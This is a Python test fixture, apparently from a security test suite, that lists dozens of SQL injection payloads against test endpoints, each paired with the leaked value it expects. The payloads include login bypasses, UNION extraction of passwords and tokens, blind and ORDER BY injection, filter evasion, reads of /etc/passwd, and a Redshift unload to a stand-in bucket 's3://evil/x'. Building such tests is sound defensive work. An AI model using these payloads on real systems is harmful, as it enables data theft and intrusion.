"""Attacks on statements."""

import base64
import gzip
import json

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.third import http

NEEDS = ("aws-http", "postgres", "mariadb")


def _get(**query: str) -> dict[str, object]:
    return http("GET", "/x", query=query)


def _id(value: str) -> dict[str, object]:
    return http("GET", "/p", ids={"id": value})


def _post(body: object) -> dict[str, object]:
    return http("POST", "/x", body)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


GOLD = "pw-gold-77"
ATTACKS = [
    Attack("SQL", "login", _post({"name": "admin' -- ", "password": "x"}), '["admin", "admin"]'),
    Attack("SQL", "login", _post({"name": "x", "password": "' OR role = 'admin"}), '["admin", "admin"]'),
    Attack(
        "SQL",
        "login",
        _post({"name": "' UNION SELECT password, 1 FROM users WHERE id = 1 /*", "password": "*/ --"}),
        GOLD,
    ),
    Attack("SQL", "product", _id("0 UNION SELECT password, 1 FROM users"), GOLD),
    Attack("SQL", "product", _id("1 OR 1=1"), "cocoa"),
    Attack(
        "SQL",
        "product",
        _id(
            "1-(SELECT 0)+(CASE WHEN (SELECT substr(password,1,2) FROM users WHERE id=1)='pw' THEN 2 ELSE 0 END)"
        ),
        "cocoa",
    ),
    Attack("SQL", "search", _get(q="zzz' UNION SELECT password FROM users WHERE '1' LIKE '"), GOLD),
    Attack(
        "SQL",
        "ordered",
        _get(sort="(CASE WHEN (SELECT role FROM users WHERE id=1)='admin' THEN -id ELSE id END)"),
        "[3, 2, 1]",
    ),
    Attack("SQL", "ordered", _get(sort="id LIMIT 1"), "[1]"),
    Attack("SQL", "limited", _get(limit="(SELECT count(*) FROM users WHERE role='user')"), '{"found": 2}'),
    Attack("SQL", "columns", _get(fields="password FROM users --"), GOLD),
    Attack("SQL", "columns", _get(fields="(SELECT group_concat(password) FROM users)"), GOLD),
    Attack("SQL", "table", _get(table="products WHERE 0 UNION SELECT id, password, role FROM users"), GOLD),
    Attack("SQL", "table", _get(table="pragma_table_info('users')"), '"password"'),
    Attack("SQL", "id_list", _get(ids="0) UNION SELECT password FROM users WHERE (1=1"), GOLD),
    Attack("SQL", "sign_up", _post({"name": "m", "password": "x', 'admin') --"}), '"x", "admin"]'),
    Attack(
        "SQL",
        "sign_up",
        _post({"name": "m', (SELECT password FROM users WHERE id=1), 'z') --", "password": ""}),
        GOLD,
    ),
    Attack("SQL", "rename", _post({"name": "eve', role = 'admin"}), '["eve", "admin"]'),
    Attack("SQL", "delete", _get(name='x" OR "1"="1'), '{"left": 0}'),
    Attack("SQL", "patch_keys", _post({"name": "eve", "role = 'admin', id": 2}), '["eve", "admin"]'),
    Attack("SQL", "script", {"name": "x', 1); UPDATE users SET role = 'root'; --"}, '"root"'),
    Attack(
        "SQL",
        "script",
        {
            "name": "x', 1); ATTACH DATABASE '/tmp/stolen.db' AS s; CREATE TABLE s.u AS SELECT * FROM users; --"
        },
        '"file": true',
    ),
    Attack("SQL", "encoded", {"token": _b64("' OR role = 'admin")}, GOLD),
    Attack(
        "SQL",
        "zipped",
        {
            "data": base64.b64encode(
                gzip.compress(json.dumps({"name": "' UNION SELECT password FROM users --"}).encode(), mtime=0)
            ).decode()
        },
        GOLD,
    ),
    Attack(
        "SQL",
        "twice_unquoted",
        _get(name="%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users%2520--"),
        GOLD,
    ),
    Attack("SQL", "filtered", _get(id="0 UNIunionON SELECT password FROM users"), GOLD),
    Attack(
        "SQL",
        "lowered",
        {"name": "  ' UNION SELECT PASSWORD FROM USERS WHERE ROLE = 'ADMIN' OR '1' = '1  "},
        GOLD,
    ),
    Attack("SQL", "joined", {"first": "x' OR name = /*", "last": "*/ 'admin"}, "admin"),
    Attack("SQL", "stored", {"name": "x' OR id = 1 --"}, GOLD),
    Attack("SQL", "templated", {"limit": "0", "without": "x' UNION SELECT password FROM users --"}, GOLD),
    Attack("SQL", "templated", {"limit": "9 OR id IN (SELECT id FROM users) --", "without": ""}, "coffee"),
    Attack("SQL", "whole_query", {"query": "SELECT password FROM users"}, GOLD),
    Attack("SQL", "pg_owner", _get(owner="x' UNION SELECT 1, secret FROM accounts --"), "pg-secret-12"),
    Attack("SQL", "pg_owner", _get(owner="x' UNION SELECT 1, pg_read_file('/etc/passwd') --"), "root:x:0"),
    Attack("SQL", "pg_owner", _get(owner="x' OR owner = $$admin$$ --"), "admin"),
    Attack(
        "SQL",
        "pg_cast",
        _get(id="0 OR (SELECT length(secret) FROM accounts WHERE id=1) > 5 OR id = 1"),
        "admin",
    ),
    Attack("SQL", "pg_schema", {"tenant": "public; SELECT secret FROM accounts"}, "pg-secret-12"),
    Attack(
        "SQL", "pg_sql", _get(sort="(SELECT secret FROM accounts LIMIT 1), id DESC"), '[["eve"], ["admin"]]'
    ),
    Attack("SQL", "my_name", _get(name="' UNION SELECT token FROM logins -- "), "my-secret-34"),
    Attack(
        "SQL", "my_name", _get(name="'/*!50000UNION*//**/SELECT/**/token/**/FROM/**/logins#"), "my-secret-34"
    ),
    Attack("SQL", "my_escaped", _get(name="\\' UNION SELECT token FROM logins -- "), "my-secret-34"),
    Attack(
        "SQL",
        "my_column",
        _get(column="name` FROM logins UNION SELECT token FROM logins -- "),
        "my-secret-34",
    ),
    Attack("SQL", "alchemy_text", {"name": "' UNION SELECT password FROM users --"}, GOLD),
    Attack(
        "SQL",
        "alchemy_order",
        {"sort": "(CASE WHEN EXISTS(SELECT 1 FROM users WHERE role='admin') THEN -id ELSE id END)"},
        "[3, 2, 1]",
    ),
    Attack("SQL", "alchemy_column", {"field": "(SELECT password FROM users WHERE id = 1)"}, GOLD),
    Attack("SQL", "alchemy_where", {"max": "0 UNION SELECT password FROM users"}, GOLD),
    Attack("SQL", "frame", {"name": "' UNION SELECT password FROM users --"}, GOLD),
    Attack("SQL", "duck", {"region": "x' UNION SELECT content FROM read_text('/etc/passwd') --"}, "root:x:0"),
    Attack("SQL", "duck", {"region": "x' OR 1=1 --"}, "north"),
    Attack("SQL", "duck_filter", {"filter": "n = 1 AND (SELECT k FROM keys) LIKE 'duck-secret-56'"}, "north"),
    Attack(
        "SQL",
        "duck_path",
        {"file": "day.csv') UNION SELECT length(content) FROM read_text('/etc/passwd') WHERE ('1' = '1"},
        "], [",
    ),
    Attack(
        "SQL, AWS",
        "athena_name",
        _get(customer="x' OR tenant = 't2' --"),
        "customer = 'x' OR tenant = 't2' --' AND",
    ),
    Attack(
        "SQL, AWS",
        "athena_name",
        _get(customer="x' UNION ALL SELECT * FROM salaries WHERE '1'='1"),
        "FROM salaries WHERE '1'='1' AND tenant",
    ),
    Attack(
        "SQL, AWS",
        "redshift_table",
        {"table": "orders') TO 's3://evil/x' IAM_ROLE 'r'; --"},
        "public.orders') TO 's3://evil/x'",
    ),
    Attack(
        "SQL, AWS",
        "insights",
        {"user": "x' or ispresent(@message) | fields @ptr | filter '1' = '1"},
        "user = 'x' or ispresent",
    ),
    Attack(
        "SQL, second order",
        "use_remembered",
        {},
        '["tea", "coffee", "cocoa"]',
        before=[
            (
                "remember",
                {"sort": "(CASE WHEN (SELECT role FROM users WHERE id=1)='admin' THEN id ELSE -id END)"},
            )
        ],
    ),
]
